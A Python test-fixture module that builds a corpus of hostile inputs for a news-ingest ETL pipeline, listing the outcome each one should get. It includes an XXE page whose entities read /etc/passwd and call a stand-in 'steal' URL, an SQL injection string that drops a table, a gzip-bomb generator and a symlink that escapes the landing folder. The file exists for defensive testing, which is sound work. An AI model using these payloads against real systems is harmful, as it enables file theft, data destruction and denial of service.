"""The bad-input corpus of issue 7, generated into a landing folder at test time.

Nothing here is committed as a binary: every hostile file (the 20 MB page, the gzip bomb, the
PNG and PDF named .html) is built from a few lines of code, so the repository stays small and
each file says in code what makes it hostile.
"""

from __future__ import annotations

import gzip
import os
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from etl.ingest.landing import MAX_DECODED_BYTES

BATCH = "2024-03-04"
# Far beyond the decoded-size cap yet only ~1/1000 of it on disk; the issue's "past 1 GB" bomb
# is what bench/hostile_report.py builds, the tests use this smaller one to stay fast.
TEST_BOMB_BYTES = MAX_DECODED_BYTES + 16 * 1024 * 1024
ISSUE_BOMB_BYTES = 1024 * 1024 * 1024 + 1
HUGE_PAGE_BYTES = 20 * 1024 * 1024
NESTED_DIVS = 10_000
LINK_COUNT = 100_000

ARABIC_PARAGRAPHS = (
    "قال وزير الخارجية الروسي إن الجولة الجديدة من المحادثات في أستانا ستبحث وقف إطلاق النار "
    "في سوريا، وإن الوفود وصلت إلى العاصمة الكازاخية صباح اليوم لبدء الاجتماعات التقنية.",
    "وأضاف أن تركيا وإيران ستشاركان بصفتهما دولتين ضامنتين، وأن الأمم المتحدة أرسلت مبعوثها "
    "الخاص لمتابعة النقاشات حول مناطق خفض التصعيد وتبادل المعتقلين بين الأطراف.",
    "وأشار المسؤول إلى أن المعارضة السورية المسلحة لم تؤكد بعد مستوى تمثيلها في الجولة، في حين "
    "قالت مصادر مطلعة إن الاجتماعات قد تستمر يومين على الأقل قبل صدور البيان الختامي.",
)
ENGLISH_PARAGRAPH = (
    "The delegations met in Astana on Tuesday to discuss the ceasefire in Syria, with Russia, "
    "Turkey and Iran acting as guarantors and the United Nations envoy attending the sessions."
)
# What a leaked /etc/passwd or a fetched URL would put into the body; the XXE page must not.
XXE_CANARY_FILE = "file:///etc/passwd"
XXE_CANARY_URL = "http://xxe.invalid/steal"
# A document's text reaches SQL only as bound values; spliced, this would end the statement.
SQL_INJECTION = "x'); DROP TABLE fact_article; DELETE FROM ingest_log WHERE ('1'='1"


@dataclass(frozen=True, slots=True)
class BadInput:
    """One hostile input: where it lands, what it is, and the outcome the pipeline owes it."""

    name: str
    description: str
    outcome: str  # loaded | quarantined | skipped_duplicate
    reason_contains: str | None  # a phrase the recorded reason must hold (None for loaded)
    stage: str | None  # ingest | parse for quarantined inputs

    def source_path(self, batch: str = BATCH) -> str:
        return f"{batch}/{self.name}"


def article_html(
    paragraphs: tuple[str, ...], title: str, head_extra: str = "", charset: str | None = "utf-8"
) -> str:
    meta = f'<meta charset="{charset}">' if charset else ""
    body = "".join(f"<p>{paragraph}</p>" for paragraph in paragraphs)
    return (
        f'<html lang="ar"><head>{meta}<title>{title}</title>{head_extra}'
        '<meta property="article:published_time" content="2024-03-03T09:00:00Z"></head>'
        f"<body><article><h1>{title}</h1>{body}</article></body></html>"
    )


def _arabic_page(charset: str | None = "utf-8") -> str:
    return article_html(ARABIC_PARAGRAPHS, "محادثات أستانا حول سوريا", charset=charset)


def _huge_page() -> bytes:
    """20 MB of distinct paragraphs (numbered, since repeated blocks are dropped as carousels)."""
    head = (
        b'<html><head><title>A very long page</title><meta property="article:published_time"'
        b' content="2024-03-03T09:00:00Z"></head><body><article>'
    )
    tail = b"</article></body></html>"
    paragraphs: list[bytes] = []
    size = len(head) + len(tail)
    while size < HUGE_PAGE_BYTES:
        paragraph = f"<p>{len(paragraphs)}. {ENGLISH_PARAGRAPH}</p>\n".encode()
        paragraphs.append(paragraph)
        size += len(paragraph)
    return head + b"".join(paragraphs) + tail


def _nested_divs() -> bytes:
    inner = "".join(f"<p>{paragraph}</p>" for paragraph in ARABIC_PARAGRAPHS)
    return (
        '<html><head><meta charset="utf-8"><title>Nested</title></head><body>'
        + "<div>" * NESTED_DIVS
        + inner
        + "</div>" * NESTED_DIVS
        + "</body></html>"
    ).encode()


def _invalid_utf8() -> bytes:
    # Real pages carry tens of kilobytes of markup around the text; the parser tolerates a few
    # broken bytes as a share of the page (see _short_page_with_invalid_utf8 in the tests).
    style = "<style>" + ".nav-item { margin: 0 4px; padding: 2px; }\n" * 800 + "</style>"
    page = article_html(ARABIC_PARAGRAPHS, "محادثات أستانا حول سوريا", head_extra=style).encode()
    cut = page.index(b"<p>") + 40
    return page[:cut] + b"\xff\xfe\xc3(" + page[cut:]


def _declared_utf8_encoded_cp1256() -> bytes:
    return _arabic_page(charset="utf-8").encode("cp1256")


def _declared_cp1256_encoded_utf8() -> bytes:
    return _arabic_page(charset="windows-1256").encode()


def xxe_page(file_url: str = XXE_CANARY_FILE, http_url: str = XXE_CANARY_URL) -> bytes:
    """An XHTML page whose DOCTYPE declares a file entity, a URL entity and a URL parameter
    entity, and whose title and paragraphs reference them."""
    doctype = (
        "<!DOCTYPE html [\n"
        f'  <!ENTITY file SYSTEM "{file_url}">\n'
        f'  <!ENTITY remote SYSTEM "{http_url}">\n'
        f'  <!ENTITY % param SYSTEM "{http_url}/dtd"> %param;\n'
        "]>\n"
    )
    body = "".join(f"<p>{paragraph} &file; &remote;</p>" for paragraph in ARABIC_PARAGRAPHS)
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n{doctype}'
        '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>XXE &file;</title>'
        '<meta property="article:published_time" content="2024-03-03T09:00:00Z"/></head>'
        f"<body><article>{body}</article></body></html>"
    ).encode()


def _many_links() -> bytes:
    links = "".join(f'<a href="/n/{i}">link {i}</a>' for i in range(LINK_COUNT))
    return f"<html><head><title>Links</title></head><body><div>{links}</div></body></html>".encode()


def _no_text() -> bytes:
    return (
        b'<html><head><meta charset="utf-8"><title></title></head><body><div><img src="a.png">'
        b"<span></span><div><br><hr></div></div><script>var x = 1;</script></body></html>"
    )


def _png() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(256)) * 4


def _pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n" + b"stream\n" + bytes(range(256)) * 4


def _truncated_gzip() -> bytes:
    whole = gzip.compress(_arabic_page().encode() * 20)
    return whole[: len(whole) // 2]


def gzip_bomb(expanded_bytes: int) -> bytes:
    """A gzip stream of `expanded_bytes` zeros, compressed in chunks so memory stays small."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    chunk = b"\0" * (4 * 1024 * 1024)
    parts: list[bytes] = []
    remaining = expanded_bytes
    while remaining > 0:
        parts.append(compressor.compress(chunk[: min(len(chunk), remaining)]))
        remaining -= len(chunk)
    parts.append(compressor.flush())
    return b"".join(parts)


def _bad_inputs(bomb_bytes: int) -> list[tuple[BadInput, Callable[[], bytes]]]:
    unique_page = article_html((ENGLISH_PARAGRAPH, ENGLISH_PARAGRAPH[::-1]), "Duplicated page")
    return [
        (BadInput("empty.html", "empty file (0 bytes)", "quarantined", "empty", "parse"), lambda: b""),
        (
            BadInput("whitespace.html", "whitespace-only file", "quarantined", "empty", "parse"),
            lambda: b"  \n\t \r\n   \n",
        ),
        (BadInput("image.html", "a PNG named .html", "quarantined", "PNG", "parse"), _png),
        (BadInput("document.html", "a PDF named .html", "quarantined", "PDF", "parse"), _pdf),
        (
            BadInput("huge.html", "a 20 MB page", "quarantined", "article text longer than", "parse"),
            _huge_page,
        ),
        (BadInput("nested.html", f"{NESTED_DIVS:,} nested divs", "loaded", None, None), _nested_divs),
        (
            BadInput("sql_title.html", "SQL in the title and body", "loaded", None, None),
            lambda: article_html((f"{ENGLISH_PARAGRAPH} {SQL_INJECTION}",), SQL_INJECTION).encode(),
        ),
        (
            BadInput("invalid_utf8.html", "invalid UTF-8 bytes in a valid page", "loaded", None, None),
            _invalid_utf8,
        ),
        (
            BadInput("undeclared_1256.html", "undeclared windows-1256", "loaded", None, None),
            lambda: _arabic_page(charset=None).encode("cp1256"),
        ),
        (
            BadInput("declares_utf8.html", "declares UTF-8, encoded windows-1256", "loaded", None, None),
            _declared_utf8_encoded_cp1256,
        ),
        (
            BadInput("declares_1256.html", "declares windows-1256, encoded UTF-8", "loaded", None, None),
            _declared_cp1256_encoded_utf8,
        ),
        (
            BadInput("truncated.html.gz", "truncated .html.gz", "quarantined", "truncated gzip", "ingest"),
            _truncated_gzip,
        ),
        (
            BadInput(
                "bomb.html.gz",
                f"gzip expanding to {bomb_bytes:,} bytes",
                "quarantined",
                f"past the cap of {MAX_DECODED_BYTES} bytes",
                "ingest",
            ),
            lambda: gzip_bomb(bomb_bytes),
        ),
        (BadInput("xxe.html", "DOCTYPE with external entities", "loaded", None, None), xxe_page),
        (
            BadInput(
                "links.html",
                f"{LINK_COUNT:,} links, no paragraphs",
                "quarantined",
                "no article text",
                "parse",
            ),
            _many_links,
        ),
        (BadInput("no_text.html", "no text at all", "quarantined", "no article text", "parse"), _no_text),
        (
            BadInput("copy_a.html", "same bytes under two names (first)", "loaded", None, None),
            lambda: unique_page.encode(),
        ),
        (
            BadInput(
                "copy_b.html", "same bytes under two names (second)", "skipped_duplicate", "copy_a.html", None
            ),
            lambda: unique_page.encode(),
        ),
    ]


def bad_input_names() -> list[str]:
    return [bad_input.name for bad_input, _ in _bad_inputs(TEST_BOMB_BYTES)]


SYMLINK_INPUT = BadInput(
    "outside_link.html",
    "symlink pointing outside the landing folder",
    "quarantined",
    "symlink pointing outside the landing folder",
    "ingest",
)
SPECIAL_INPUTS = (
    SYMLINK_INPUT,
    BadInput("loop_a.html", "symlink loop (a → b)", "quarantined", "symlink loop", "ingest"),
    BadInput("loop_b.html", "symlink loop (b → a)", "quarantined", "symlink loop", "ingest"),
    BadInput("pipe.html", "a FIFO named .html", "quarantined", "not a regular file", "ingest"),
    BadInput("pipe_link.html", "symlink to a FIFO", "quarantined", "not a regular file", "ingest"),
    BadInput("bad\\xffname.html", "file name that is not UTF-8", "loaded", None, None),
)


def _write_special_files(landing_dir: Path, batch_dir: Path) -> None:
    """Symlinks, a FIFO and a non-UTF-8 name: inputs that break a naive reader, not a parser."""
    secret = landing_dir.parent / f"{landing_dir.name}-outside" / "secret.html"
    secret.parent.mkdir(parents=True, exist_ok=True)
    secret.write_text(
        article_html((ENGLISH_PARAGRAPH, "A secret page outside the landing folder."), "Secret")
    )
    os.symlink(secret, batch_dir / "outside_link.html")
    os.symlink("loop_b.html", batch_dir / "loop_a.html")
    os.symlink("loop_a.html", batch_dir / "loop_b.html")
    os.mkfifo(batch_dir / "pipe.html")
    os.symlink("pipe.html", batch_dir / "pipe_link.html")
    odd_name = os.fsencode(batch_dir) + b"/bad\xffname.html"
    with open(odd_name, "wb") as page:
        page.write(article_html((ENGLISH_PARAGRAPH, "Its file name is not UTF-8."), "Odd name").encode())


def write_bad_corpus(
    landing_dir: Path,
    bomb_bytes: int = TEST_BOMB_BYTES,
    batch: str = BATCH,
    leave_out: frozenset[str] = frozenset(),
) -> list[BadInput]:
    """Write every hostile input (but those named in `leave_out`) into `landing_dir/batch/` and
    return what each one owes.

    The outside symlink's target is a readable article beside (not inside) the landing folder,
    so only the bounds check stands between it and the warehouse.
    """
    batch_dir = landing_dir / batch
    batch_dir.mkdir(parents=True, exist_ok=True)
    expected = []
    for bad_input, content in _bad_inputs(bomb_bytes):
        if bad_input.name in leave_out:
            continue
        (batch_dir / bad_input.name).write_bytes(content())
        expected.append(bad_input)
    _write_special_files(landing_dir, batch_dir)
    return expected + list(SPECIAL_INPUTS)
